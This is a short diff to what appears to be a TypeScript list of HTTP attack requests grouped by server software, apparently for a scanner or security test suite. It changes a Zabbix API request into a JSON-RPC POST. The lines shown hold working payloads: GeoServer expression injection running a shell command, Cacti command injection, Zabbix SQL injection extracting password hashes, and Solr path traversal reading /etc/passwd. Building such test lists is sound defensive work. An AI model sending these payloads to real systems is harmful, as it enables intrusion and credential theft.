@@ -147,8 +147,9 @@ export const FIFTH_SERVERS: readonly Family[] = [
                     "/geoserver/wfs?request=GetPropertyValue&service=wfs&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/a')&version=2.0.0",
                 ),
                 get("/cacti/cmd_realtime.php?1+1&&calc.exe+1+1+1"),
-                form(
+                post(
                     "/zabbix/api_jsonrpc.php",
+                    "application/json-rpc",
                     '{"jsonrpc":"2.0","method":"user.get","params":{"selectRole":["roleid, u.passwd"],"userids":"1"},"id":1}',
                 ),
                 get("/solr/%3a/admin/info/key?_=../../../../etc/passwd%00:/admin/info/key"),
